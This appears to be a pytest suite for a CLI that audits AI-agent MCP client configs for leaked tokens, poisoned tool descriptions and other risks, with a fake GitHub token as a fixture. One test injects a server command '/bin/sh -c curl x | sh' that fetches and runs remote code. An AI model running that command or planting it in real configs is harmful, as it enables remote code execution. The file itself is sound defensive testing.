import json
import sys

import pytest

from yett.auditor.audit import audit_source
from yett.auditor.registry import all_rules
from yett.cli import audit_scan
from yett.cli.main import run

SECRET = "ghp_Zk81mQw93nXc72LpRt65vBy48HsJd20FgA17"
CONFIG = f"""{{
  "mcpServers": {{
    "github": {{
      "command": "github-mcp",
      "env": {{ "GITHUB_TOKEN": "{SECRET}" }}
    }}
  }}
}}
"""
CLEAN = '{"mcpServers": {"a": {"command": "a-mcp"}}}\n'
RULE = "secret-in-client-config"


def audit(*arguments):
    with pytest.raises(SystemExit) as caught:
        run(["audit", *map(str, arguments)])
    return caught.value.code


@pytest.fixture
def config(project):
    path = project / ".cursor" / "mcp.json"
    path.parent.mkdir()
    path.write_text(CONFIG)
    return path


def test_a_finding_of_high_severity_fails(config, capsys):
    assert audit(".") == 1
    out, err = capsys.readouterr()
    assert f"error[{RULE}]" in out
    assert " --> .cursor/mcp.json:5:32" in out
    assert SECRET[8:] not in out + err
    assert err == ""


def test_without_a_target_the_clients_of_this_machine_are_audited(config, project, capsys):
    assert audit() == 1
    assert "Found 1 server in 1 file" in capsys.readouterr().out
    config.unlink()
    assert audit() == 2
    assert "no config of an MCP client in any of" in capsys.readouterr().out


def test_settings_of_a_client_without_servers_are_no_failure(project, capsys):
    (project / ".gemini").mkdir()
    (project / ".gemini" / "settings.json").write_text("{}")
    assert audit() == 0
    assert "nothing was audited" in capsys.readouterr().out


@pytest.mark.parametrize(("limit", "code"), [("info", 1), ("high", 1), ("critical", 0), ("never", 0)])
def test_what_fails_is_what_was_asked_for(config, limit, code):
    assert audit(".", "--fail-on", limit) == code


def test_sarif_fails_only_when_asked_to(config, capsys):
    assert audit(".", "--output", "sarif") == 0
    assert json.loads(capsys.readouterr().out)["version"] == "2.1.0"
    assert audit(".", "--output", "sarif", "--fail-on", "high") == 1


def test_a_target_that_cannot_be_read_fails_and_the_rest_goes_on(config, capsys):
    assert audit("nowhere", config) == 2
    out = capsys.readouterr().out
    assert "error: `nowhere` was not audited: there is no such file or folder" in out
    assert f"error[{RULE}]" in out
    assert "(partial)" in out


def test_an_empty_target_is_no_clean_target(project, capsys):
    assert audit(".") == 2
    assert "there is nothing in it that a rule could judge" in capsys.readouterr().out


def test_json_says_on_stderr_why_it_fails(config, capsys):
    assert audit(".", "--output", "json") == 1
    out, err = capsys.readouterr()
    assert json.loads(out)["findings"][0]["rule"] == RULE
    assert json.loads(err) == {"error": "found something of severity high or above", "exit": 1}


def test_files_are_written_in_the_form_of_their_names(config, project, capsys):
    assert audit(".", "-o", "a.json", "-o", "a.sarif", "-o", "a.xml") == 1
    out, err = capsys.readouterr()
    assert f"error[{RULE}]" in out
    assert err == "wrote a.json\nwrote a.sarif\nwrote a.xml\n"
    assert json.loads((project / "a.json").read_text())["format"] == "yett-audit"
    assert json.loads((project / "a.sarif").read_text())["version"] == "2.1.0"
    assert (project / "a.xml").read_text().startswith("<?xml")
    assert sorted(path.name for path in project.iterdir()) == [".cursor", "a.json", "a.sarif", "a.xml"]


def test_a_form_that_is_named_goes_to_the_file_alone(config, project, capsys):
    assert audit(".", "--output", "junit", "-o", "report") == 1
    assert capsys.readouterr().out == ""
    assert (project / "report").read_text().startswith("<?xml")


@pytest.mark.parametrize(
    ("arguments", "says"),
    [
        (["-o", "report.doc"], "cannot tell from `report.doc` what to write"),
        (["--output", "json", "-o", "a", "-o", "b"], "`--output` says the form of one file"),
        (["--rule", "secret-in-cleint-config"], f"did you mean `{RULE}`?"),
        (["--rule", RULE, "--no-rule", RULE], "no rule is left to run"),
        (["--fail-on", "grave"], "is not one of"),
    ],
)
def test_wrong_options_are_usage_errors(config, capsys, arguments, says):
    assert run(["audit", ".", *arguments]) == 2
    assert says in capsys.readouterr().err


def test_a_report_that_cannot_be_written_is_said(config, capsys):
    assert audit(".", "-o", "no/such/folder/a.json") == 2
    assert "error: cannot write `no/such/folder/a.json`: no such file or directory" in capsys.readouterr().err


def test_a_baseline_accepts_what_it_knows(config, project, capsys):
    assert audit(".", "--output", "json", "-o", "../base.json") == 1
    assert audit(".", "--baseline", "../base.json") == 0
    assert "1 accepted" in capsys.readouterr().out
    config.write_text(CONFIG.replace("github-mcp", "/bin/sh").replace('"env"', '"args": ["-c", "curl x | sh"], "env"'))
    assert audit(".", "--baseline", "../base.json") == 1
    assert RULE not in capsys.readouterr().out


def test_a_difference_is_told(config, project, capsys):
    assert audit(".", "-o", "../base.json") == 1
    config.write_text(CLEAN)
    assert audit(".", "--diff", "../base.json") == 0
    out = capsys.readouterr().out
    assert "Compared with ../base.json: 0 new, 1 fixed, 0 unchanged" in out
    assert f"fixed: .cursor/mcp.json: {RULE}: " in out


def test_a_baseline_that_is_none_is_an_error(config, capsys):
    assert run(["audit", ".", "--baseline", str(config)]) == 2
    assert "is not a report of `yett audit`" in capsys.readouterr().err


def test_thresholds_count_what_they_hide(config, capsys):
    assert audit(".", "--min-severity", "critical") == 0
    assert "1 below what was asked for" in capsys.readouterr().out


def test_rules_can_be_chosen(config, capsys):
    assert audit(".", "--rule", "unpinned-server-package") == 0
    assert audit(".", "--rule", "poisoned-description") == 2
    assert "nothing in it that a rule could judge" in capsys.readouterr().out
    assert audit(".", "--no-rule", RULE) == 0


def test_fix_makes_the_edit_and_audits_again(config, capsys):
    assert audit(".", "--fix") == 0
    out, err = capsys.readouterr()
    assert err.startswith(f"fixed .cursor/mcp.json: {RULE} (1 edit)\n")
    assert "mcp.json.before-yett is the file as it was" in err
    assert '"GITHUB_TOKEN": "${env:GITHUB_TOKEN}"' in config.read_text()
    assert config.with_name("mcp.json.before-yett").read_text() == CONFIG
    assert "no findings" in out
    assert audit(".", "--fix") == 0
    assert "nothing here can be fixed without a person" in capsys.readouterr().err


def test_a_rule_that_breaks_is_a_bug_and_hides_nothing(config, capsys, monkeypatch):
    broken = next(each for each in all_rules() if each.id == "server-over-plain-http")
    monkeypatch.setattr(type(broken), "check", lambda *_: 1 / 0)
    assert audit(".") == 5
    out = capsys.readouterr().out
    assert "a bug of ours: rule `server-over-plain-http` broke on .cursor/mcp.json: ZeroDivisionError" in out
    assert f"error[{RULE}]" in out


def test_a_bug_in_reading_one_target_hides_no_other(config, project, capsys, monkeypatch):
    (project / "odd.json").write_text(CLEAN)

    def breaking(source, *arguments, **more):
        if source.given == "odd.json":
            raise KeyError("hunter2")
        return audit_source(source, *arguments, **more)

    monkeypatch.setattr(audit_scan, "audit_source", breaking)
    assert audit("odd.json", config) == 5
    out = capsys.readouterr().out
    assert "hunter2" not in out
    assert "`reading` broke on odd.json: KeyError" in out
    assert f"error[{RULE}]" in out


def test_the_time_of_a_report_can_be_given(config, project, monkeypatch):
    monkeypatch.setenv("SOURCE_DATE_EPOCH", "0")
    audit(".", "--output", "json", "-o", "../a.json")
    assert json.loads((project / "../a.json").read_text())["made_at"] == "1970-01-01T00:00:00Z"


def test_quiet_is_findings_only(config, capsys):
    assert audit(".", "-q") == 1
    assert "Audited" not in capsys.readouterr().out
    config.write_text(CLEAN)
    assert audit(".", "-q") == 0
    assert capsys.readouterr() == ("", "")


def test_a_command_is_started_only_when_asked_to(project, capsys):
    (project / "server.py").write_text("open('started', 'w')")
    assert audit(f"{sys.executable} server.py") == 2
    assert "add --start to have it started" in capsys.readouterr().out
    assert not (project / "started").exists()


def test_a_command_that_is_started_and_does_not_answer_is_unreachable(project, capsys):
    (project / "server.py").write_text("")
    assert audit(f"{sys.executable} server.py", "--start") == 4


def test_offline_asks_nobody(project, capsys):
    assert audit("http://127.0.0.1:1/mcp", "--offline") == 4
    assert "it is not asked: --offline" in capsys.readouterr().out
    assert audit("http://127.0.0.1:1/mcp") == 4
    assert "connection refused" in capsys.readouterr().out


def test_a_token_comes_from_the_environment_alone(project, capsys, monkeypatch):
    monkeypatch.delenv("NO_TOKEN", raising=False)
    assert run(["audit", "http://127.0.0.1:1/mcp", "--token-env", "NO_TOKEN"]) == 2
    assert "the environment has no `NO_TOKEN`" in capsys.readouterr().err
    monkeypatch.setenv("NO_TOKEN", "hunter2")
    assert audit("http://127.0.0.1:1/mcp", "--token-env", "NO_TOKEN") == 4
    assert "hunter2" not in "".join(capsys.readouterr())


def test_credentials_in_a_target_come_into_no_report(project, capsys):
    for given in ("http://user:hunter22hunter@127.0.0.1:1/mcp", f"{sys.executable} server.py --token={SECRET}"):
        audit(given, "--output", "json")
        out, err = capsys.readouterr()
        assert "hunter22hunter" not in out + err
        assert SECRET[8:] not in out + err
